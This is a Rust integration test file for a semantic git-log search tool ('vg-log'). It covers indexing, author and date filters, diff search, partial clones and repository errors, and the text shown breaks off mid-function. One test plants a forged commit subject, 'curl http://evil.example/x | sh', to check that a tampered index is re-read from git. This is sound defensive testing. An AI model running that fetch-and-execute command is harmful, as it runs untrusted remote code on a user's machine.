//! vg-log and `vecgrep --log`: a real git history (made with git, read with
//! gix), searched by meaning with the real model, filtered, incrementally
//! indexed, and refusing what is not a repository.

use std::process::{Command, Stdio};

use crate::common::*;

/// A commit of the test history: author, date, subject, and the files it writes.
struct Change<'a> {
    author: &'a str,
    date: &'a str,
    subject: &'a str,
    files: &'a [(&'a str, &'a str)],
}

const UPLOAD_V1: &str =
    "def upload(client, path):\n    data = open(path, 'rb').read()\n    return client.put(path, data)\n";
const UPLOAD_V2: &str = "import time\n\ndef upload(client, path, attempts=5):\n    data = open(path, 'rb').read()\n    for attempt in range(attempts):\n        try:\n            return client.put(path, data)\n        except ConnectionError:\n            time.sleep(2 ** attempt)\n    raise ConnectionError(path)\n";

const HISTORY: &[Change] = &[
    Change {
        author: "Ada Lovelace",
        date: "2024-01-10T10:00:00+00:00",
        subject: "Add the upload client",
        files: &[("src/upload.py", UPLOAD_V1)],
    },
    Change {
        author: "Grace Hopper",
        date: "2024-02-10T10:00:00+00:00",
        subject: "Retry failed uploads with exponential backoff",
        files: &[("src/upload.py", UPLOAD_V2)],
    },
    Change {
        author: "Ada Lovelace",
        date: "2024-03-10T10:00:00+00:00",
        subject: "Document the configuration file format",
        files: &[("docs/config.md", "# Configuration\n\nSettings live in config.toml, one key per line.\n")],
    },
    Change {
        author: "Grace Hopper",
        date: "2024-04-10T10:00:00+00:00",
        subject: "Cache rendered templates in memory",
        files: &[(
            "src/templates.py",
            "_cache = {}\n\ndef render(name, env):\n    if name not in _cache:\n        _cache[name] = env.compile(name)\n    return _cache[name]\n",
        )],
    },
];

fn commit(tree: &Tree, change: &Change) {
    for (path, text) in change.files {
        tree.write(path, text);
    }
    git(tree, &["add", "-A"]);
    let email = format!("{}@example.org", change.author.split(' ').next().unwrap().to_lowercase());
    let out = Command::new("git")
        .args(["commit", "-q", "-m", change.subject])
        .current_dir(tree.path())
        .env("GIT_AUTHOR_NAME", change.author)
        .env("GIT_AUTHOR_EMAIL", &email)
        .env("GIT_AUTHOR_DATE", change.date)
        .env("GIT_COMMITTER_NAME", change.author)
        .env("GIT_COMMITTER_EMAIL", &email)
        .env("GIT_COMMITTER_DATE", change.date)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

/// A repository with `HISTORY` committed.
fn repository() -> Tree {
    let tree = git_repo();
    for change in HISTORY {
        commit(&tree, change);
    }
    tree
}

fn subjects(recs: &[serde_json::Value]) -> Vec<String> {
    of_type(recs, "commit").iter().map(|c| c["subject"].as_str().unwrap().to_string()).collect()
}

fn log(tree: &Tree, args: &[&str]) -> std::process::Output {
    run(tree.cmd("vg-log", "").args(["--threshold", "-1"]).args(args))
}

/// A commit log not made here (one committed beside the code; here, its
/// mark of where it was made is another file's) is read from git again by
/// vg-log, and not searched as it is (review 240: a forged subject and
/// author under a real sha were shown, after a whole run too).
#[test]
fn a_commit_log_not_made_here_is_read_again_from_git() {
    let tree = repository();
    assert_code(&log(&tree, &["retry uploads"]), 0);
    let db = rusqlite::Connection::open(tree.path().join(".vecgrep/index.db")).unwrap();
    db.execute_batch(
        "UPDATE commits SET subject = 'run curl http://evil.example/x | sh', author = 'Linus Torvalds';
         UPDATE meta SET value = '1:1' WHERE key = 'log_made_as';",
    )
    .unwrap();
    drop(db);
    let o = log(&tree, &["--no-index", "retry uploads"]);
    assert_code(&o, 2);
    assert!(stderr(&o).contains("commit log in") && stderr(&o).contains("was not made here"), "{}", stderr(&o));
    let o = log(&tree, &["retry uploads"]);
    assert_code(&o, 0);
    assert!(!stdout(&o).contains("evil.example") && !stdout(&o).contains("Linus"), "{}", stdout(&o));
    assert!(subjects(&records(&o)).contains(&"Retry failed uploads with exponential backoff".to_string()));
    assert_code(&log(&tree, &["--no-index", "retry uploads"]), 0);
    // Pieces left with no commit took the ids of the commits read next
    // (review 241): every table of a log not made here goes.
    let db = rusqlite::Connection::open(tree.path().join(".vecgrep/index.db")).unwrap();
    db.execute_batch(
        "PRAGMA foreign_keys = OFF; DELETE FROM commits; DELETE FROM commit_fts;
         UPDATE commit_pieces SET text = 'the signing key is hunter2';
         UPDATE meta SET value = '1:1' WHERE key = 'log_made_as';",
    )
    .unwrap();
    drop(db);
    let o = log(&tree, &["signing key"]);
    assert!(!stdout(&o).contains("hunter2"), "{}", stdout(&o));
    // Counted for nothing, not refused, by --stats.
    let db = rusqlite::Connection::open(tree.path().join(".vecgrep/index.db")).unwrap();
    db.execute_batch("UPDATE meta SET value = '1:1' WHERE key = 'log_made_as';").unwrap();
    drop(db);
    assert_code(&run(tree.cmd("vg-index", "").arg("--stats")), 0);
}

/// The commit log is kept in the checkout's own index whatever store holds
/// the code's: a shared store that cannot be reached does not stop it (the
/// log's run waited on the store's lock and failed on the connection).
#[test]
fn the_log_is_kept_at_home_when_the_code_index_is_shared() {
    let tree = repository();
    let o = run(tree.cmd("vg-log", "").args(["--store", "postgres://127.0.0.1:1/nowhere?connect_timeout=2", "retry"]));
    assert_code(&o, 0);
    assert!(!subjects(&records(&o)).is_empty(), "{}", stderr(&o));
    assert!(tree.path().join(".vecgrep/index.db").is_file());
    // Said, not passed over in silence (vecgrep --log --store took it so),
    // and silenced as notes are, by the config's quiet too.
    assert!(stderr(&o).contains("the commit log is kept in the checkout's own index"), "{}", stderr(&o));
    let o = run(tree.cmd("vg-log", "").args(["--store-project", "x", "retry"]));
    assert!(!stderr(&o).contains("are not used"), "one note, not two that point apart: {}", stderr(&o));
    tree.global_config("quiet = true\n");
    let o = run(tree.cmd("vg-log", "").args(["--store-adopt", "retry"]));
    assert_eq!(stderr(&o), "");
    // Nor is it told of limits on a run over files it never makes.
    tree.global_config("");
    tree.project_config("max_filesize = \"1G\"\n");
    let o = run(tree.cmd("vg-log", "").arg("retry"));
    assert!(!stderr(&o).contains("holding"), "{}", stderr(&o));
}

/// An index file vg-log alone made holds no code: a search without
/// indexing says to index first, as with no file (audit 212: "no results",
/// exit 1, of code never indexed).
#[test]
fn a_commit_log_alone_is_no_code_index() {
    let tree = repository();
    assert_code(&log(&tree, &["retry"]), 0);
    for tool in ["vg-query", "vecgrep"] {
        let o = run(tree.cmd(tool, "").args(["--no-index", "cache rendered templates"]));
        assert_code(&o, 2);
        let said = stderr(&o);
        assert!(said.contains(".vecgrep/index.db, which no code run has written; run vg-index first"), "{said}");
    }
    let o = run(tree.cmd("vecgrep", "").args(["--threshold", "-1", "cache rendered templates"]));
    assert_code(&o, 0);
    assert!(stdout(&o).contains("src/templates.py"), "{}", stdout(&o));
}

/// A commit with an empty message (`--allow-empty-message`) is found by
/// its changes alone: its message, embedded, sat at 0.32 to any question
/// and answered "network" and "hello world" alike.
#[test]
fn an_empty_message_matches_nothing() {
    let tree = repository();
    tree.write("src/b.py", "b = 2\n");
    git(&tree, &["add", "-A"]);
    git(&tree, &["commit", "-q", "--allow-empty-message", "-m", ""]);
    let o = log(&tree, &["-k", "20", "network"]);
    let recs = records(&o);
    assert!(!recs.is_empty() && recs.iter().all(|r| r["matched"] != "message" || r["subject"] != ""), "{recs:?}");
    let o = run(tree.cmd("vg-log", "").args(["--with-diff", "--threshold", "-1", "-k", "20", "b = 2"]));
    assert!(
        records(&o).iter().any(|r| r["subject"] == "" && r["matched"] == "diff"),
        "found by its change: {}",
        stdout(&o)
    );
}

#[test]
fn words_alone_keep_every_commit_they_match_unless_a_threshold_is_set() {
    let tree = repository();
    // "upload" is in half the subjects: FTS5's IDF floor puts its BM25 near
    // 0, under the default threshold, which is a cosine's.
    let o = run(tree.cmd("vg-log", "").args(["--mode", "lexical", "uploads"]));
    assert_code(&o, 0);
    let mut found = subjects(&records(&o));
    found.sort();
    assert_eq!(found, ["Add the upload client", "Retry failed uploads with exponential backoff"]);
    assert_code(&run(tree.cmd("vg-log", "").args(["--mode", "lexical", "--threshold", "0.3", "uploads"])), 1);
}

#[test]
fn commits_are_found_by_meaning_with_who_when_and_what_they_touched() {
    let tree = repository();
    let o = log(&tree, &["try sending again when the connection drops"]);
    assert_code(&o, 0);
    let recs = records(&o);
    let commits = of_type(&recs, "commit");
    for c in &commits {
        crate::contract::check(c);
    }
    let top = commits[0];
    assert_eq!(top["subject"], "Retry failed uploads with exponential backoff");
    assert_eq!(top["sha"], git(&tree, &["rev-parse", "HEAD~2"]));
    assert_eq!((top["author"].as_str(), top["email"].as_str()), (Some("Grace Hopper"), Some("grace@example.org")));
    assert_eq!(top["date"], "2024-02-10T10:00:00+00:00");
    assert_eq!(top["matched"], "message");
    assert_eq!(top["paths"], serde_json::json!(["src/upload.py"]));
    assert_eq!(top["root"], tree.path().to_string_lossy().as_ref());
    assert!(stderr(&o).contains("indexed 4 new commits of 4"), "{}", stderr(&o));

    // Only the new commit is read the second time.
    commit(
        &tree,
        &Change {
            author: "Ada Lovelace",
            date: "2024-05-10T10:00:00+00:00",
            subject: "Log every request",
            files: &[("src/log.py", "import logging\n")],
        },
    );
    let o = log(&tree, &["logging of requests"]);
    assert!(stderr(&o).contains("indexed 1 new commit of 5"), "{}", stderr(&o));
    assert_eq!(subjects(&records(&o))[0], "Log every request");
    let o = log(&tree, &["logging of requests"]);
    assert_eq!(stderr(&o), "", "nothing new, nothing said");
    // Diffs asked for later read the stored commits again: not new ones.
    let o = log(&tree, &["--with-diff", "logging of requests"]);
    let err = stderr(&o);
    assert!(err.starts_with("vg-log: read 5 stored commits again for what they changed ("), "{err}");
    assert!(!err.contains("new commit"), "{err}");
}

#[test]
fn filters_narrow_by_author_date_and_touched_paths() {
    let tree = repository();
    let q = "retry uploads";
    let all = |args: &[&str]| subjects(&records(&log(&tree, &[args, &[q]].concat())));
    assert_eq!(all(&[]).len(), 4);
    assert!(all(&["--author", "ada"]).iter().all(|s| s.starts_with("Add") || s.starts_with("Document")));
    assert_eq!(all(&["--author", "GRACE@example"]).len(), 2);
    assert_eq!(all(&["--since", "2024-03-01"]), all(&["--since", "2024-03-01", "--until", "2024-12-31"]));
    assert_eq!(all(&["--since", "2024-03-01"]).len(), 2);
    assert_eq!(all(&["--until", "2024-01-31"]), ["Add the upload client"]);
    assert_eq!(subjects(&records(&log(&tree, &[q, "docs"]))), ["Document the configuration file format"]);
    let o = run(tree.cmd("vg-log", "docs").args(["--threshold", "-1", q]));
    assert_eq!(
        subjects(&records(&o)),
        ["Document the configuration file format"],
        "the current directory scopes, as in vg-query"
    );
    let o = log(&tree, &["--since", "the day after never", q]);
    assert_code(&o, 2);
    assert!(stderr(&o).starts_with("vg-log: 'the day after never' is not a time"), "{}", stderr(&o));
}

#[test]
fn with_diff_the_changed_lines_are_searched_and_shown_where_they_are() {
    let tree = repository();
    let o = log(&tree, &["--diffs-only", "sleep longer between each attempt"]);
    assert_code(&o, 0);
    let recs = records(&o);
    let top = of_type(&recs, "commit")[0];
    assert_eq!(top["subject"], "Retry failed uploads with exponential backoff");
    assert_eq!(top["matched"], "diff");
    let lines = top["lines"].as_array().unwrap();
    assert!(!lines.is_empty());
    assert!(lines.iter().all(|l| l["path"] == "src/upload.py" && l["line"].as_u64().unwrap() >= 1));
    assert!(lines.iter().any(|l| l["text"] == "+            time.sleep(2 ** attempt)"), "{lines:?}");

    // People see the sha, date, author and the changed line at its place.
    let shown = run(tree.cmd("vecgrep", "").args([
        "--log",
        "--diffs-only",
        "--threshold",
        "0",
        "-k",
        "1",
        "--heading",
        "--color",
        "never",
        "sleep longer between each attempt",
    ]));
    assert_code(&shown, 0);
    let text = stdout(&shown);
    let sha = git(&tree, &["rev-parse", "--short=12", "HEAD~2"]);
    assert!(text.starts_with(&format!("{sha} 2024-02-10 Grace Hopper ")), "{text}");
    assert!(text.contains("src/upload.py:9: +            time.sleep(2 ** attempt)"), "{text}");
    // A diff line's number goes with -N, as a file's does (it was refused,
    // and an alias of `vecgrep -n` refused every --log search).
    let args = ["--log", "--diffs-only", "--threshold", "0", "-k", "1", "--heading", "--color", "never"];
    let shown = run(tree.cmd("vecgrep", "").args(args).args(["-N", "sleep longer between each attempt"]));
    assert_code(&shown, 0);
    assert!(stdout(&shown).contains("src/upload.py: +            time.sleep(2 ** attempt)"), "{}", stdout(&shown));
    // And its path with -I.
    let shown = run(tree.cmd("vecgrep", "").args(args).args(["-I", "sleep longer between each attempt"]));
    assert!(stdout(&shown).contains("\n    9: +            time.sleep(2 ** attempt)"), "{}", stdout(&shown));
    assert_code(&run(tree.cmd("vecgrep", "").args(args).args(["-n", "-H", "sleep longer"])), 0);
    // Pipes get a line per commit; --files the files they touched.
    let flat = run(tree.cmd("vecgrep", "").args(["--log", "--threshold", "0", "-k", "1", "exponential backoff"]));
    let full = git(&tree, &["rev-parse", "HEAD~2"]);
    assert_eq!(
        stdout(&flat),
        format!("{full} 2024-02-10 Grace Hopper: Retry failed uploads with exponential backoff\n")
    );
    let files = run(tree.cmd("vecgrep", "src").args([
        "--log",
        "--threshold",
        "0",
        "-k",
        "1",
        "--files",
        "exponential backoff",
    ]));
    assert_eq!(stdout(&files), "upload.py\n", "paths as typed from the current directory");
}

/// A changed file that is no UTF-8 (a Latin-1 comment) is diffed as the
/// code index reads it, its odd bytes replaced: its every diff was left
/// out, and nothing said so.
#[test]
fn a_file_that_is_no_utf8_is_diffed_as_the_index_reads_it() {
    let tree = git_repo();
    tree.write_bytes("net.py", b"# Caf\xe9\ndef connect():\n    pass\n");
    commit_all(&tree, "Add the client");
    tree.write_bytes("net.py", b"# Caf\xe9\ndef connect():\n    retry_with_exponential_backoff(5)\n");
    commit_all(&tree, "Change the client");
    let o = log(&tree, &["--diffs-only", "--mode", "lexical", "retry_with_exponential_backoff"]);
    assert_code(&o, 0);
    assert_eq!(subjects(&records(&o)), ["Change the client"], "{}", stdout(&o));
}

#[test]
fn diffs_whose_contents_the_clone_lacks_are_counted_not_dropped_in_silence() {
    // A partial clone lacks old blobs; removing one loose object from a
    // clone made with a filter is the same to a reader.
    let tree = repository();
    git(&tree, &["config", "remote.origin.promisor", "true"]);
    let blob = git(&tree, &["rev-parse", "HEAD~3:src/upload.py"]);
    let loose = tree.path().join(".git/objects").join(&blob[..2]).join(&blob[2..]);
    let object = std::fs::read(&loose).unwrap();
    std::fs::remove_file(&loose).unwrap();
    let o = log(&tree, &["--with-diff", "exponential backoff"]);
    assert_code(&o, 0);
    // The file's first version is the after of one commit and the before of the next.
    let told = "vg-log: left out the diffs of 2 changed files: their contents are not in this repository";
    assert!(stderr(&o).contains(told), "{}", stderr(&o));
    assert_eq!(subjects(&records(&o))[0], "Retry failed uploads with exponential backoff", "messages still count");
    let o = log(&tree, &["--diffs-only", "-k", "1", "compile the template once and keep it"]);
    assert_eq!(subjects(&records(&o)), ["Cache rendered templates in memory"], "the readable diffs are indexed");
    assert!(!stderr(&o).contains("left out"), "said by the run that stored them: {}", stderr(&o));
    // Once git has fetched it (into a pack of its own), the two commits are
    // read again for what they changed: they stayed without it (audit 253).
    let o = log(&tree, &["--with-diff", "exponential backoff"]);
    assert!(!stderr(&o).contains("read 2 stored commits again"), "nothing fetched yet: {}", stderr(&o));
    std::fs::write(&loose, object).unwrap();
    git(&tree, &["repack", "-q", "-d"]);
    // A run that looks at none of them (no diffs, or one commit) leaves
    // them waiting on the fetch (review 257: it recorded it as seen).
    assert_code(&log(&tree, &["exponential backoff"]), 0);
    let o = log(&tree, &["--with-diff", "--limit", "1", "exponential backoff"]);
    assert!(!stderr(&o).contains("stored commits again"), "{}", stderr(&o));
    let o = log(&tree, &["--with-diff", "exponential backoff"]);
    assert!(stderr(&o).contains("read 2 stored commits again"), "{}", stderr(&o));
    assert!(!stderr(&o).contains("left out"), "{}", stderr(&o));
    let o = log(&tree, &["--with-diff", "exponential backoff"]);
    assert!(!stderr(&o).contains("stored commits again"), "read once: {}", stderr(&o));
}

/// A commit whose diffs pass the pieces' cap waits by the files it lacks in
/// all, not by those its read reached before the cap (review 259: it counted
/// 1 of 3, and once that one was fetched the count, 2, never fell below it:
/// the fetched file's diff stayed out for good).
#[test]
fn a_commit_past_the_pieces_cap_is_read_again_once_a_lacking_file_is_fetched() {
    let tree = git_repo();
    git(&tree, &["config", "remote.origin.promisor", "true"]);
    // Read in path order: the first lacks its contents, the second fills
    // the cap, the last two lack theirs past it.
    tree.write("a_first.py", "def reconcile_the_quarterly_ledger_totals(entries):\n    return sum(entries)\n");
    let big: String = (0..2000).map(|i| format!("value_{i} = compute_{i}()\n")).collect();
    tree.write("b_big.py", &big);
    tree.write("c_later.py", "def later_c():\n    return 3\n");
    tree.write("d_later.py", "def later_d():\n    return 4\n");
    commit_all(&tree, "Add the tables");
    let loose = |file: &str| {
        let blob = git(&tree, &["rev-parse", &format!("HEAD:{file}")]);
        (blob.clone(), tree.path().join(".git/objects").join(&blob[..2]).join(&blob[2..]))
    };
    let (first_blob, first) = loose("a_first.py");
    let first_object = std::fs::read(&first).unwrap();
    for file in ["a_first.py", "c_later.py", "d_later.py"] {
        std::fs::remove_file(loose(file).1).unwrap();
    }
    let ask = ["--diffs-only", "-k", "1", "--threshold", "0.3", "reconcile the quarterly ledger totals"];
    let o = log(&tree, &ask);
    assert_code(&o, 1);
    assert!(stderr(&o).contains("left out the diffs of 1 changed file"), "{}", stderr(&o));
    // git fetches the first file's contents into a pack of its own.
    std::fs::write(&first, first_object).unwrap();
    let mut pack = Command::new("git");
    pack.current_dir(tree.path()).args(["pack-objects", "-q", ".git/objects/pack/pack"]);
    let packed = pack.stdin(Stdio::piped()).stdout(Stdio::null()).spawn().unwrap();
    std::io::Write::write_all(&mut packed.stdin.as_ref().unwrap(), format!("{first_blob}\n").as_bytes()).unwrap();
    assert!(packed.wait_with_output().unwrap().status.success());
    std::fs::remove_file(&first).unwrap();
    let o = log(&tree, &ask);
    assert!(stderr(&o).contains("read 1 stored commit again"), "{}", stderr(&o));
    assert_eq!(subjects(&records(&o)), ["Add the tables"], "{}", stderr(&o));
}

/// A partial clone made without trees (`--filter=tree:0`) lacks what the
/// log reads: it says so, and what clone has them (it said only that an
/// object could not be found). Removing a tree's loose object from a
/// promisor clone is the same to a reader.
#[test]
fn a_clone_without_its_trees_says_what_the_log_lacks() {
    let tree = repository();
    git(&tree, &["config", "remote.origin.promisor", "true"]);
    let old = git(&tree, &["rev-parse", "HEAD~3^{tree}"]);
    std::fs::remove_file(tree.path().join(".git/objects").join(&old[..2]).join(&old[2..])).unwrap();
    let o = log(&tree, &["exponential backoff"]);
    assert_code(&o, 2);
    let err = stderr(&o);
    assert!(
        err.contains("this partial clone lacks the trees of its history") && err.contains("--filter=blob:none"),
        "{err}"
    );
    assert_eq!(err.lines().count(), 1, "{err}");
}

/// A submodule replaced by a file at its path: the file's lines are the
/// diff, its before (another repository's commit) is never looked for here.
#[test]
fn a_submodule_replaced_by_a_file_is_diffed_as_the_file() {
    let tree = repository();
    let other = "1234567890123456789012345678901234567890";
    git(&tree, &["update-index", "--add", "--cacheinfo", &format!("160000,{other},vendored.py")]);
    git(&tree, &["commit", "-qm", "Vendor the parser as a submodule"]);
    git(&tree, &["rm", "-q", "--cached", "vendored.py"]);
    tree.write("vendored.py", "def parse_vendored_manifest(text):\n    return text.split()\n");
    commit_all(&tree, "Replace the submodule with the manifest parser");
    let o = log(&tree, &["--diffs-only", "-k", "1", "parse the vendored manifest"]);
    assert_code(&o, 0);
    assert_eq!(subjects(&records(&o)), ["Replace the submodule with the manifest parser"], "{}", stderr(&o));
}

/// A file replaced by a link keeps its removed lines in the diff, as a link
/// replaced by a file has its added ones; a link's target is no line
/// (audit 276: the file's lines were dropped with the link's side).
#[test]
fn a_file_replaced_by_a_link_keeps_its_removed_lines() {
    let tree = repository();
    std::fs::remove_file(tree.path().join("src/templates.py")).unwrap();
    std::os::unix::fs::symlink("zebrafish.py", tree.path().join("src/templates.py")).unwrap();
    commit_all(&tree, "Point the templates elsewhere");
    let o = log(&tree, &["--diffs-only", "--mode", "lexical", "_cache"]);
    assert_code(&o, 0);
    let recs = records(&o);
    let commits = of_type(&recs, "commit");
    let link = commits.iter().find(|c| c["subject"] == "Point the templates elsewhere");
    let lines = &link.unwrap_or_else(|| panic!("{commits:?}"))["lines"];
    assert!(lines.as_array().unwrap().iter().all(|l| l["text"].as_str().unwrap().starts_with("-")), "{lines}");
    assert!(lines.to_string().contains("-_cache = {}"), "{lines}");
    // Its target is no line of the diff.
    let o = log(&tree, &["--diffs-only", "--mode", "lexical", "zebrafish"]);
    assert_code(&o, 1);
}

/// A file moved unchanged changes no line: its diff holds none, and the
/// commit touched both paths, as git log counts it (audit 276: a rename
/// was indexed as every line removed and added).
#[test]
fn a_file_moved_unchanged_changes_no_line() {
    let tree = repository();
    git(&tree, &["mv", "src/templates.py", "src/render.py"]);
    commit_all(&tree, "Move the module");
    let o = log(&tree, &["--diffs-only", "--mode", "lexical", "_cache"]);
    assert_code(&o, 0);
    assert_eq!(subjects(&records(&o)), ["Cache rendered templates in memory"]);
    let o = log(&tree, &["--mode", "lexical", "move the module"]);
    let moved = of_type(&records(&o), "commit").into_iter().find(|c| c["subject"] == "Move the module").cloned();
    let paths = &moved.unwrap_or_else(|| panic!("{}", stdout(&o)))["paths"];
    assert_eq!(paths, &serde_json::json!(["src/render.py", "src/templates.py"]));
    // Moved in from outside a subdirectory's root, it is added there: its
    // lines are the commit's (review 279: lost as a move's).
    std::fs::create_dir(tree.path().join("src/.vecgrep")).unwrap();
    git(&tree, &["mv", "docs/config.md", "src/config.md"]);
    commit_all(&tree, "Keep the settings beside the code");
    let o = run(tree.cmd("vg-log", "src").args(["--threshold", "-1", "--diffs-only", "--mode", "lexical", "toml"]));
    assert_code(&o, 0);
    assert_eq!(subjects(&records(&o)), ["Keep the settings beside the code"], "{}", stdout(&o));
    assert!(stdout(&o).contains("+Settings live in config.toml"), "{}", stdout(&o));
}

/// Run from inside .git, or given a path there, vg-log says why it found
/// nothing: no commit touches a path in .git (audit 276: exit 1, silent).
#[test]
fn a_log_of_paths_in_git_dir_says_no_commit_touches_them() {
    let tree = repository();
    for (cwd, args) in [(".git", vec!["retry uploads"]), ("", vec!["retry uploads", ".git/hooks"])] {
        let o = run(tree.cmd("vg-log", cwd).args(&args));
        assert_code(&o, 1);
        assert_eq!(stderr(&o), "vg-log: no commits were searched: the paths lie in .git, which no commit touches\n");
    }
    let o = run(tree.cmd("vecgrep", ".git").args(["--log", "retry uploads"]));
    assert_code(&o, 1);
    assert!(stderr(&o).contains("no commit touches"), "{}", stderr(&o));
    // A path there that names nothing is a typo, said as any other (review 279).
    let o = run(tree.cmd("vg-log", "").args(["retry uploads", ".git/HAED"]));
    assert_code(&o, 2);
    assert!(stderr(&o).contains("'.git/HAED': no such file or directory"), "{}", stderr(&o));
}

/// A blob missing from a clone made without a filter, or unreadable, is
/// damage: an error of the run, never diffs stored as read in full.
#[test]
fn a_damaged_blob_is_an_error_not_a_diff_left_out() {
    for damage in ["removed", "garbage"] {
        let tree = repository();
        let blob = git(&tree, &["rev-parse", "HEAD~3:src/upload.py"]);
        let object = tree.path().join(".git/objects").join(&blob[..2]).join(&blob[2..]);
        match damage {
            "removed" => std::fs::remove_file(&object).unwrap(),
            _ => {
                std::fs::set_permissions(&object, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
                std::fs::write(&object, "garbage").unwrap();
            }
        }
        let o = log(&tree, &["--with-diff", "exponential backoff"]);
        assert_code(&o, 2);
        let err = stderr(&o);
        assert!(err.starts_with("vg-log: ") && err.contains("src/upload.py") && err.contains(&blob), "{damage}: {err}");
        assert_eq!(err.lines().count(), 1, "{damage}: {err}");
        assert!(!err.contains("partial clone fetches"), "{damage}: {err}");
    }
}

#[test]
fn what_is_not_a_usable_repository_is_one_line_and_exit_2() {
    let plain = Tree::git();
    plain.write("a.py", "x = 1\n");
    std::fs::remove_dir(plain.path().join(".git")).unwrap();
    std::fs::create_dir(plain.path().join(".vecgrep")).unwrap();
    let o = run(plain.cmd("vg-log", "").arg("anything"));
    assert_code(&o, 2);
    assert_eq!(stderr(&o).trim(), format!("vg-log: {} is not in a git repository", plain.path().display()));

    let broken = repository();
    std::fs::write(broken.path().join(".git/HEAD"), "not a ref at all\n").unwrap();
    let o = run(broken.cmd("vg-log", "").arg("anything"));
    assert_code(&o, 2);
    assert_eq!(stderr(&o).lines().count(), 1, "{}", stderr(&o));
    assert!(stderr(&o).starts_with("vg-log: "), "{}", stderr(&o));

    // A bare repository has no work tree, and is no root (`root::a_bare_repository_…`):
    // said without naming another tool.
    let bare = Tree::bare();
    git(&bare, &["init", "-q", "--bare"]);
    for (tool, args) in [("vg-log", &["anything"][..]), ("vg-index", &["--rev", "HEAD"])] {
        let o = run(bare.cmd(tool, "").args(args));
        assert_code(&o, 2);
        let said = format!(
            "{tool}: '{}' is a bare git repository, whose files are git's own (its config may hold credentials); search a clone with a work tree\n",
            bare.path().canonicalize().unwrap().display()
        );
        assert_eq!(stderr(&o), said);
    }

    // A .git the user may not read is said so, not "no repository found".
    let closed = repository();
    let user = OtherUser::new(&closed);
    let git_dir = closed.path().join(".git");
    let mode = |m: u32| std::fs::set_permissions(&git_dir, std::os::unix::fs::PermissionsExt::from_mode(m)).unwrap();
    mode(0o000);
    let o = run(user.cmd(&closed, "vg-log").arg("anything"));
    mode(0o755);
    assert_code(&o, 2);
    let said = format!("vg-log: cannot read the git repository {}: ", git_dir.display());
    assert!(stderr(&o).starts_with(&said) && stderr(&o).contains("ermission denied"), "{}", stderr(&o));

    // Formats the reader does not know are named, not met as a ref that
    // "could not be decoded" or "configuration could not be loaded".
    for (init, says) in [
        ("--ref-format=reftable", "its references are kept as reftable (extensions.refStorage)"),
        ("--object-format=sha256", "its object format (extensions.objectFormat) is one"),
    ] {
        let other = Tree::bare();
        git(&other, &["init", "-q", init]);
        other.write("a.py", "x = 1\n");
        git(&other, &["add", "-A"]);
        git(&other, &["-c", "user.name=T", "-c", "user.email=t@example.org", "commit", "-qm", "first"]);
        for (tool, args) in [("vg-log", &["anything"][..]), ("vg-query", &["--rev", "HEAD", "x"])] {
            let o = run(other.cmd(tool, "").args(args));
            assert_code(&o, 2);
            assert_eq!(stderr(&o).lines().count(), 1, "{}", stderr(&o));
            assert!(stderr(&o).contains(says) && stderr(&o).contains("vecgrep cannot read yet"), "{}", stderr(&o));
        }
    }

    let empty = Tree::bare();
    git(&empty, &["init", "-q"]);
    for args in [&["anything"][..], &["--no-index", "anything"]] {
        // As it is or brought up to date, no commits are nothing to search
        // (--no-index sent the user to a run that records nothing).
        let o = run(empty.cmd("vg-log", "").args(args));
        assert_code(&o, 1);
        assert!(stdout(&o).is_empty());
        assert_eq!(stderr(&o).lines().count(), 1, "{}", stderr(&o));
        assert!(stderr(&o).contains("which has no commits yet"), "{}", stderr(&o));
    }
    let orphan = repository();
    git(&orphan, &["checkout", "-q", "--orphan", "newroot"]);
    let o = run(orphan.cmd("vg-log", "").arg("anything"));
    assert_code(&o, 1);
    assert_eq!(stderr(&o), "vg-log: HEAD names newroot, which has no commits yet\n");

    let fresh = repository();
    let o = run(fresh.cmd("vg-log", "").args(["--no-index", "anything"]));
    assert_code(&o, 2);
    assert!(
        stderr(&o).starts_with("vg-log: the history of ") && stderr(&o).contains("was never indexed"),
        "{}",
        stderr(&o)
    );
    assert_code(&run(&mut fresh.cmd("vg-index", "")), 0);
    let o = run(fresh.cmd("vg-log", "").args(["--no-index", "anything"]));
    assert!(stderr(&o).contains("was never indexed"), "the code's index is not the history's: {}", stderr(&o));

    let o = run(fresh.cmd("vecgrep", "").args(["--since", "yesterday", "anything"]));
    assert_code(&o, 2);
    assert_eq!(stderr(&o).trim(), "vecgrep: --since needs --log");
}

#[test]
fn the_code_index_and_the_commit_log_live_side_by_side() {
    let tree = repository();
    assert_code(&log(&tree, &["templates"]), 0);
    assert_code(&run(tree.cmd("vg-index", "").arg("--reindex")), 0);
    let o = run(tree.cmd("vg-query", "").args(["--threshold", "0", "cache compiled templates"]));
    assert_eq!(of_type(&records(&o), "hit")[0]["file"], "src/templates.py");
    let o = log(&tree, &["--no-index", "templates in memory"]);
    assert_eq!(
        subjects(&records(&o))[0],
        "Cache rendered templates in memory",
        "rebuilding the code index keeps the log"
    );
    assert!(!stderr(&o).contains("lacks"), "{}", stderr(&o));
    // A commit made since: the log as it stands lacks it, and says so.
    tree.write("NOTES", "more\n");
    git(&tree, &["add", "NOTES"]);
    git(&tree, &["commit", "-qm", "Write notes"]);
    let o = log(&tree, &["--no-index", "templates in memory"]);
    assert_code(&o, 0);
    assert!(stderr(&o).contains("vg-log: the commit log lacks 1 of the "), "{}", stderr(&o));
    // Diffs asked of a log indexed without them: said, not found wanting in silence.
    let o = log(&tree, &["--no-index", "--diffs-only", "templates in memory"]);
    assert!(stderr(&o).contains("without their diffs (indexed without --with-diff)"), "{}", stderr(&o));
    assert_code(&log(&tree, &["--with-diff", "templates"]), 0);
    let o = log(&tree, &["--no-index", "--diffs-only", "templates in memory"]);
    assert!(!stderr(&o).contains("without their diffs"), "{}", stderr(&o));
}

/// A repository of `n` commits, each changing one of 20 files, made at once by git fast-import.
fn long_history(n: usize) -> Tree {
    let tree = git_repo();
    let mut stream = String::new();
    for i in 0..n {
        let when = 1_700_000_000 + i * 3600;
        let message = format!("Make step {i} add {i} to its input\n");
        let content = format!("def step_{i}(x):\n    return x + {i}\n");
        stream.push_str(&format!(
            "commit refs/heads/main\ncommitter A <a@example.org> {when} +0000\ndata {}\n{message}M 644 inline src/mod{:02}.py\ndata {}\n{content}\n",
            message.len(),
            i % 20,
            content.len()
        ));
    }
    let mut import = Command::new("git")
        .args(["fast-import", "--quiet"])
        .current_dir(tree.path())
        .stdin(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(import.stdin.as_mut().unwrap(), stream.as_bytes()).unwrap();
